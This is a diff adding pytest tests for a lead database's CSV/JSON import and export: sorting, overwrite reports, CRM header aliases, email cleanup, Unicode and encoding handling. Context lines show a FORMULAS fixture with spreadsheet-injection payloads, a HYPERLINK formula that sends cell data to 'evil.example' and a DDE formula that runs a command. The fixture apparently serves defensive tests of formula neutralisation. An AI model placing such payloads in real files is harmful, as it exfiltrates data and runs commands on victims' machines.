@@ -3,9 +3,11 @@ backends."""
 
 from __future__ import annotations
 
+import codecs
 import csv
 import io
 import json
+import unicodedata
 
 import pytest
 from sqlalchemy import func, select
@@ -247,6 +249,29 @@ def test_find_leads_filters_and_order(seeded):
             find_leads(session, acme, order="random")
 
 
+def test_leads_without_a_name_or_score_sort_last_in_every_order(seeded):
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(
+            session,
+            acme,
+            [
+                {"email": "zed@z.example"},
+                {"name": "Bob", "email": "bob@b.example", "score": 50},
+                {"email": "cy@c.example", "score": 50},
+                {"name": "Amy", "email": "amy@a.example"},
+            ],
+            source=SOURCE,
+        )
+        for order, names in [
+            ("name", ["Amy", "Bob", None, None]),
+            ("recent", ["Amy", "Bob", None, None]),  # all seen at once: then by name
+            ("first_seen", ["Amy", "Bob", None, None]),
+            ("score", ["Bob", None, "Amy", None]),
+        ]:
+            assert [lead.name for lead in find_leads(session, acme, order=order)] == names, order
+
+
 def test_update_lead(seeded):
     with seeded.session() as session:
         acme = resolve_customer(session, "acme")
@@ -379,6 +404,228 @@ def test_export_then_import_changes_nothing_but_last_seen(seeded, tmp_path):
     assert not {"id", "first_seen", "last_seen"} & set(hal)
 
 
+def _edited_export(session, customer, path, edit) -> None:
+    """Export the customer's leads to path as CSV, with edit(row) applied to each row."""
+    out = io.StringIO()
+    export_leads(session, customer, "csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    for row in rows:
+        edit(row)
+    with path.open("w", newline="") as file:
+        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+def _rename(row: dict[str, str]) -> None:
+    if row["email"] == "ann@a.example":
+        row.update(name="Anne Lee", company="A Corp", title="CTO", phone="+15550100")
+    if row["domain"] == "d.example":
+        row.update(name="Dee Ozil")
+
+
+def test_reimporting_an_edited_export_keeps_values_that_differ_and_says_so(seeded, tmp_path):
+    path = tmp_path / "edited.csv"
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(
+            session,
+            acme,
+            [{"name": "Ann Lee", "email": "ann@a.example", "company": "A Co", "title": "CEO"}],
+            source=SOURCE,
+        )
+        _edited_export(session, acme, path, _rename)
+        report = import_leads_csv(session, acme, path, actor="tester")
+        assert (report.imported, report.updated, report.filled) == (0, 1, 1)
+        assert report.differing == [
+            (2, "name", "Ann Lee", "Anne Lee"),
+            (2, "title", "CEO", "CTO"),
+            (2, "company", "A Co", "A Corp"),
+        ]
+        assert report.to_dict()["kept"][0] == {
+            "row": 2,
+            "field": "name",
+            "stored": "Ann Lee",
+            "file": "Anne Lee",
+        }
+        assert report.to_dict()["replaced"] == []
+        ann = get_lead(session, acme, "ann@a.example")
+        assert (ann.name, ann.company, ann.title, ann.phone) == (
+            "Ann Lee",
+            "A Co",
+            "CEO",
+            "+15550100",
+        )
+
+        report = import_leads_csv(session, acme, path, actor="tester", overwrite=True)
+        assert (report.updated, report.filled, len(report.differing)) == (1, 0, 3)
+        assert report.to_dict()["kept"] == [] and len(report.to_dict()["replaced"]) == 3
+        ann = get_lead(session, acme, "ann@a.example")
+        assert (ann.name, ann.company, ann.title) == ("Anne Lee", "A Corp", "CTO")
+        assert ann.data["_provenance"]["name"] == "import"
+        assert ann.data["_provenance"]["email"] == "local"  # unchanged, still the finder's
+        entry = session.scalars(select(AuditLog).order_by(AuditLog.seq.desc())).first()
+        assert entry.action == "leads.import"
+        assert entry.details == {
+            "file": str(path),
+            "imported": 0,
+            "updated": 1,
+            "rejected": 0,
+            "overwrite": True,
+            "filled": 0,
+            "replaced": 3,
+        }
+
+
+def test_overwrite_changes_the_name_of_a_lead_without_email_by_its_export_id(seeded, tmp_path):
+    path = tmp_path / "edited.csv"
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(session, acme, [{"name": "Dee Oz", "domain": "d.example"}], source=SOURCE)
+        dee_id = find_leads(session, acme)[0].id
+        _edited_export(session, acme, path, _rename)
+        report = import_leads_csv(session, acme, path, overwrite=True)
+        assert (report.imported, report.updated, report.rejected) == (0, 1, [])
+        (dee,) = find_leads(session, acme)
+        assert (dee.id, dee.name, dee.dedupe_key) == (dee_id, "Dee Ozil", "d.example|dee ozil")
+
+
+def test_overwrite_never_turns_a_lead_into_another_stored_one(seeded, tmp_path):
+    path = tmp_path / "edited.csv"
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(
+            session,
+            acme,
+            [{"name": "Ann", "email": "ann@a.example"}, {"name": "Bob", "email": "bob@b.example"}],
+            source=SOURCE,
+        )
+        bob = get_lead(session, acme, "bob@b.example")
+
+        def take_bobs_address(row: dict[str, str]) -> None:
+            if row["email"] == "ann@a.example":
+                row["email"] = "bob@b.example"
+
+        _edited_export(session, acme, path, take_bobs_address)
+        report = import_leads_csv(session, acme, path, overwrite=True)
+        assert report.rejected == [(2, f"another lead ({bob.id}) is stored as 'bob@b.example'")]
+        assert sorted(lead.name for lead in find_leads(session, acme)) == ["Ann", "Bob"]
+        assert get_lead(session, acme, "ann@a.example").name == "Ann"
+
+
+def test_a_json_export_imports_back_like_the_csv_one(seeded, tmp_path):
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(session, acme, ROUND_TRIP_LEADS, source=SOURCE)
+        before = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
+        out = io.StringIO()
+        export_leads(session, acme, "json", out)
+    path = tmp_path / "exp.json"
+    path.write_text(out.getvalue(), encoding="utf-8")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated, report.rejected) == (0, 2, [])
+        assert (report.filled, report.differing, report.format) == (0, [], "json")
+        columns = report.to_dict()["columns"]
+        assert columns["skipped"] == ["id", "source", "first_seen", "last_seen"]
+        assert "technologies" in columns["data"] and "_provenance" not in columns["data"]
+        after = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
+    for key, lead in before.items():
+        assert {**after[key], "last_seen": None} == {**lead, "last_seen": None}
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        ('[{"email": "a@a.example"},', "line 1: not valid JSON"),
+        ('{"email": "a@a.example"}', "a JSON import is a list of leads"),
+        ('[{"who": "Ann"}]', "no usable keys"),
+    ],
+)
+def test_import_json_that_is_no_list_of_leads(seeded, tmp_path, content, message):
+    path = tmp_path / "leads.json"
+    path.write_text(content)
+    with seeded.session() as session, pytest.raises(UsageError, match=message):
+        import_leads_csv(session, resolve_customer(session, "acme"), path)
+
+
+def test_import_json_rows_are_its_leads_from_one(seeded, tmp_path):
+    path = tmp_path / "leads.json"
+    leads = [
+        {"email": "ann@a.example", "Company Name": "A Co", "data": {"size": 3}},
+        "bob@b.example",
+        {"email": "nope", "score": 5},
+        {"email": "cy@c.example", "name": ["Cy"]},
+        {"email": "dee@d.example", "score": 70, "data": {"tags": ["x"], "note": "N/A"}},
+    ]
+    path.write_text(json.dumps({"status": "ok", "data": leads}))  # `leads list --json`
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert report.imported == 2
+        assert report.rejected == [
+            (2, 'not a lead (a JSON object) but "bob@b.example"'),
+            (3, "invalid email address 'nope'"),
+            (4, 'name is not text but ["Cy"]'),
+        ]
+        ann = get_lead(session, acme, "ann@a.example")
+        assert (ann.company, ann.data["size"]) == ("A Co", 3)
+        dee = get_lead(session, acme, "dee@d.example")
+        assert (dee.score, dee.data["tags"], "note" in dee.data) == (70, ["x"], False)
+        path.write_text("[]")
+        assert import_leads_csv(session, acme, path).imported == 0
+
+
+def test_import_excel_sep_line_and_blank_lines_before_the_header(seeded, tmp_path):
+    path = tmp_path / "excel.csv"
+    path.write_text("sep=;\n\n\nname;email\nAnn;ann@a.example\nBob;nope\n")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        # numbered as a spreadsheet shows them: Excel hides the sep= line
+        assert report.imported == 1
+        assert report.rejected == [(5, "invalid email address 'nope'")]
+        path.write_text('\n\nemail,name\nann@a.example,"Ann\n')
+        report = import_leads_csv(session, acme, path)
+        assert report.rejected == [
+            (4, "an unterminated quoted field: the quote opening it on line 4 is never closed; "
+                "close it and import again")
+        ]  # fmt: skip
+        path.write_text('"sep=,"\nemail,"name\nann@a.example,Ann\n')
+        with pytest.raises(UsageError, match="line 2: the header has a quoted field"):
+            import_leads_csv(session, acme, path)
+
+
+def test_a_crm_id_column_is_kept_in_data_and_an_export_id_is_skipped(seeded, tmp_path):
+    path = tmp_path / "crm.csv"
+    path.write_text("ID,email,name\n1001,ann@a.example,Ann\n0035g00000XyZ,bob@b.example,Bob\n")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.rejected) == (2, [])
+        assert report.to_dict()["columns"]["data"] == ["ID"]
+        assert report.to_dict()["columns"]["skipped"] == []
+        assert get_lead(session, acme, "ann@a.example").data["ID"] == 1001
+        assert get_lead(session, acme, "bob@b.example").data["ID"] == "0035g00000XyZ"
+        # its export has hunter's id and the CRM's ID, and imports back unchanged
+        out = io.StringIO()
+        export_leads(session, acme, "csv", out)
+        assert out.getvalue().startswith("id,name,") and ",ID\n" in out.getvalue()
+        path.write_text(out.getvalue())
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated, report.rejected) == (0, 2, [])
+        assert report.to_dict()["columns"]["skipped"] == ["id", "first_seen", "last_seen"]
+        assert report.differing == []
+        assert get_lead(session, acme, "ann@a.example").data["ID"] == 1001
+        # an id column that is not all lead ids is the file's own
+        ann_id = get_lead(session, acme, "ann@a.example").id
+        path.write_text(f"id,email\n{ann_id},ann@a.example\n7,cy@c.example\n")
+        report = import_leads_csv(session, acme, path)
+        assert report.to_dict()["columns"]["data"] == ["id"]
+        assert get_lead(session, acme, "cy@c.example").data["id"] == 7
+
+
 FORMULAS = {
     "link": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "dde": "=cmd|' /C calc'!A0",
@@ -461,10 +708,215 @@ def test_import_csv(seeded, tmp_path):
         assert jon.dedupe_key == "m.example|jon poe"
         entry = session.scalars(select(AuditLog).order_by(AuditLog.seq.desc())).first()
         assert entry.action == "leads.import"
-        assert entry.details == {"file": str(path), "imported": 2, "updated": 0, "rejected": 4}
+        assert entry.details == {
+            "file": str(path),
+            "imported": 2,
+            "updated": 0,
+            "rejected": 4,
+            "overwrite": False,
+            "filled": 0,
+            "kept": 0,
+        }
     with seeded.session() as session:
         again = import_leads_csv(session, resolve_customer(session, "acme"), path)
         assert (again.imported, again.updated) == (0, 2)
+
+
+CRM_CSV = (
+    "First Name,Last Name,E-mail,Company Name,Website URL,Job Title,Phone Number,Industry,"
+    "Work Email\n"
+    "Ann,Lee,ann@a.example,A Co,https://www.a.example/about,CEO,+1 555 0100,SaaS,al@a.example\n"
+    "Bob,Roe,,B Co,b.example,CTO,,,\n"
+)
+
+
+def test_import_maps_common_crm_and_spreadsheet_headers(seeded, tmp_path):
+    path = tmp_path / "crm.csv"
+    path.write_text(CRM_CSV)
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.rejected) == (2, [])
+        ann = get_lead(session, acme, "ann@a.example")
+        assert (ann.name, ann.company, ann.domain, ann.title, ann.phone) == (
+            "Ann Lee",
+            "A Co",
+            "a.example",
+            "CEO",
+            "+1 555 0100",
+        )
+        assert {k: v for k, v in ann.data.items() if k != "_provenance"} == {
+            "Industry": "SaaS",
+            "Work Email": "al@a.example",  # email comes from E-mail
+        }
+        bob = find_leads(session, acme, domain="b.example")[0]
+        assert (bob.name, bob.dedupe_key) == ("Bob Roe", "b.example|bob roe")
+        assert report.to_dict()["columns"] == {
+            "mapped": {
+                "First Name": "name",
+                "Last Name": "name",
+                "E-mail": "email",
+                "Company Name": "company",
+                "Website URL": "domain",
+                "Job Title": "title",
+                "Phone Number": "phone",
+            },
+            "data": ["Industry", "Work Email"],
+            "skipped": [],
+            "unused_aliases": {"Work Email": "email"},
+        }
+
+
+@pytest.mark.parametrize(
+    ("header", "row", "name"),
+    [
+        ("Email Address,Full Name", "cy@c.example,Cy Poe", "Cy Poe"),
+        ("first_name,last_name,EMAIL", "Cy,Poe,cy@c.example", "Cy Poe"),
+        ("Given Name,Surname,E_Mail", "Cy,Poe,cy@c.example", "Cy Poe"),
+        ("Name,First Name,email", "Cy Poe,C.,cy@c.example", "Cy Poe"),  # Name wins
+        ("Company Website,Family Name,Contact Name", "c.example,Poe,Cy Poe", "Cy Poe"),
+    ],
+)
+def test_import_header_aliases(seeded, tmp_path, header, row, name):
+    path = tmp_path / "aliases.csv"
+    path.write_text(f"{header}\n{row}\n")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.rejected) == (1, [])
+        assert find_leads(session, acme)[0].name == name
+        assert not {"first_name", "last_name", "Given Name"} & set(
+            find_leads(session, acme)[0].data
+        )
+
+
+def test_an_export_keeps_its_domain_over_a_website_in_data(seeded, tmp_path):
+    path = tmp_path / "exp.csv"
+    path.write_text("website,email,domain\nhttps://blog.d.example,dee@d.example,d.example\n")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        import_leads_csv(session, acme, path)
+        dee = get_lead(session, acme, "dee@d.example")
+        assert (dee.domain, dee.data["website"]) == ("d.example", "https://blog.d.example")
+
+
+PASTED_EMAILS = [
+    ("bob@acme.com;", "bob@acme.com"),
+    ("<carl@acme.com>", "carl@acme.com"),
+    ('"fay@acme.com,"', "fay@acme.com"),
+    ("mailto:hal@acme.com?subject=hi", "hal@acme.com"),
+    ("MAILTO:kim@acme.com", "kim@acme.com"),
+    ("jo@acme.com\u200b", "jo@acme.com"),
+    ("Lee, Ann <ann@acme.com>", "ann@acme.com"),
+    ("eve@acme.com.", "eve@acme.com"),
+]
+
+
+def test_import_cleans_pasted_email_addresses(seeded, tmp_path):
+    rows = [[clean, "clean"] for _pasted, clean in PASTED_EMAILS]
+    rows += [[pasted, "pasted"] for pasted, _clean in PASTED_EMAILS]
+    rows += [["gus@acme..com", "x"], ["ida@-acme.com", "x"], ["\u200b", "x"]]
+    out = io.StringIO()
+    csv.writer(out).writerows([["email", "note"], *rows])
+    path = tmp_path / "pasted.csv"
+    path.write_text(out.getvalue(), encoding="utf-8")
+    count = len(PASTED_EMAILS)
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated) == (count, 0)
+        # every pasted address is the lead of its clean form: one person, one lead
+        assert report.merged == [(count + 2 + i, 2 + i) for i in range(count)]
+        assert report.rejected == [
+            (2 * count + 2, "invalid email address 'gus@acme..com' (two dots in a row)"),
+            (
+                2 * count + 3,
+                "invalid email address 'ida@-acme.com' (a domain part that starts or ends with -)",
+            ),
+            (2 * count + 4, "needs an email, or both a domain and a name"),
+        ]
+        stored = sorted(lead.email for lead in find_leads(session, acme))
+        assert stored == sorted(clean for _pasted, clean in PASTED_EMAILS)
+        assert sorted(lead.dedupe_key for lead in find_leads(session, acme)) == stored
+
+
+def test_a_mailto_link_and_its_address_are_one_lead(seeded):
+    assert dedupe_key({"email": "mailto:zoe@x.de"}) == dedupe_key({"email": "zoe@x.de"})
+    assert dedupe_key({"email": "Zoe@X.de\u200b;"}) == "zoe@x.de"
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = upsert_leads(
+            session,
+            acme,
+            [{"email": "mailto:zoe@x.de", "name": "Zoe"}, {"email": "zoe@x.de", "title": "CEO"}],
+            source=SOURCE,
+        )
+        assert (report.created, report.merged) == (1, [(1, 0)])
+        zoe = get_lead(session, acme, "<zoe@x.de>")
+        assert (zoe.email, zoe.name, zoe.title) == ("zoe@x.de", "Zoe", "CEO")
+        with pytest.raises(ValidationError, match="two dots in a row"):
+            update_lead(session, acme, zoe.id, {"email": "zoe@x..de"})
+        assert update_lead(session, acme, zoe.id, {"email": "mailto:ZOE@y.de"}).email == "zoe@y.de"
+
+
+def test_import_treats_placeholders_as_empty_in_any_column(seeded, tmp_path):
+    path = tmp_path / "placeholders.csv"
+    path.write_text(
+        "email,website,company,score,title,tier,Notes\n"
+        "ann@a.example,N/A,-,n/a,TBD,none,null\n"
+        "bob@b.example,  n/a ,B Co,,\u2014,#N/A,met at expo\n"
+        "N/A,c.example,,,,,\n"  # no email and no name: still not a lead
+    )
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.rejected) == (
+            2,
+            [(4, "needs an email, or both a domain and a name")],
+        )
+        ann = get_lead(session, acme, "ann@a.example")
+        assert (ann.domain, ann.company, ann.score, ann.title, ann.tier) == (None,) * 5
+        assert "Notes" not in ann.data
+        bob = get_lead(session, acme, "bob@b.example")
+        assert (bob.domain, bob.company, bob.title) == (None, "B Co", None)
+        assert bob.data["Notes"] == "met at expo"
+        # a provider's placeholder is no value either
+        upsert_leads(session, acme, [{"email": "cy@c.example", "domain": "N/A"}], source=SOURCE)
+        assert get_lead(session, acme, "cy@c.example").domain is None
+
+
+def test_names_in_either_unicode_form_are_one_lead(seeded, tmp_path):
+    nfc = unicodedata.normalize("NFC", "Renée Côté")
+    nfd = unicodedata.normalize("NFD", nfc)
+    assert nfc != nfd
+    email_nfc = unicodedata.normalize("NFC", "renée@y.example")
+    email_nfd = unicodedata.normalize("NFD", email_nfc)
+    path = tmp_path / "unicode.csv"
+    path.write_text(
+        f"name,domain,company,email,{unicodedata.normalize('NFD', 'Société')}\n"
+        f"{nfc},x.example,Café,,{nfc}\n"
+        f"{nfd},x.example,,,\n"
+        f"Ren,,,{email_nfd},\n"
+        f"Ren,,,{email_nfc},\n",
+        encoding="utf-8",
+    )
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.merged, report.rejected) == (2, [(3, 2), (5, 4)], [])
+        renee = find_leads(session, acme, domain="x.example")[0]
+        assert renee.name == nfc
+        assert renee.data[unicodedata.normalize("NFC", "Société")] == nfc  # header and cell
+        assert get_lead(session, acme, email_nfd).email == email_nfc
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        cafe = unicodedata.normalize("NFD", "Café")
+        report = upsert_leads(
+            session, acme, [{"name": nfd, "domain": "x.example", "title": cafe}], source=SOURCE
+        )
+        assert report.created == 0
+        renee = find_leads(session, acme, domain="x.example")[0]
+        assert (renee.name, renee.title) == (nfc, unicodedata.normalize("NFC", cafe))
 
 
 def test_import_reports_rows_merged_into_an_earlier_row(seeded, tmp_path):
@@ -559,6 +1011,51 @@ def test_import_csv_semicolons(seeded, tmp_path):
     with seeded.session() as session:
         report = import_leads_csv(session, resolve_customer(session, "acme"), path)
         assert (report.imported, report.rejected) == (1, [])
+
+
+ENCODED = "name,email\nRenée Côté,renee@x.example\nJoão,joao@x.example\n"
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig", "utf-32"])
+def test_import_reads_utf16_and_utf32_with_a_byte_order_mark(seeded, tmp_path, encoding):
+    path = tmp_path / "unicode.csv"
+    data = ENCODED.encode(encoding)
+    if encoding == "utf-16-be":
+        data = codecs.BOM_UTF16_BE + data  # the codec names the order and writes no mark
+    path.write_bytes(data)
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.rejected) == (2, [])
+        assert get_lead(session, acme, "renee@x.example").name == "Renée Côté"
+
+
+def test_import_names_the_byte_that_is_not_utf8_and_takes_an_encoding(seeded, tmp_path):
+    path = tmp_path / "windows.csv"
+    path.write_bytes(ENCODED.encode("cp1252"))
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        with pytest.raises(UsageError) as failed:
+            import_leads_csv(session, acme, path)
+        assert failed.value.message == (
+            f"{path}: line 2: byte 0xe9 is not UTF-8 text: save the file as UTF-8 (Excel: "
+            '"CSV UTF-8"), or name its encoding, e.g. --encoding cp1252 (Excel on Windows) or '
+            "--encoding latin-1"
+        )
+        report = import_leads_csv(session, acme, path, encoding="cp1252")
+        assert (report.imported, report.rejected) == (2, [])
+        assert get_lead(session, acme, "joao@x.example").name == "João"
+        with pytest.raises(UsageError, match="unknown encoding 'klingon'"):
+            import_leads_csv(session, acme, path, encoding="klingon")
+        path.write_bytes(b"name,email\nA\x81,a@x.example\n")
+        with pytest.raises(
+            UsageError, match="line 2: byte 0x81 is not cp1252 text: is --encoding cp1252 the"
+        ):
+            import_leads_csv(session, acme, path, encoding="cp1252")
+        path.write_bytes(ENCODED.encode("utf-16-le"))  # no byte-order mark
+        with pytest.raises(UsageError, match="line 1: byte 0x00 .* --encoding utf-16-le"):
+            import_leads_csv(session, acme, path)
+        assert import_leads_csv(session, acme, path, encoding="utf-16-le").rejected == []
 
 
 @pytest.mark.parametrize(
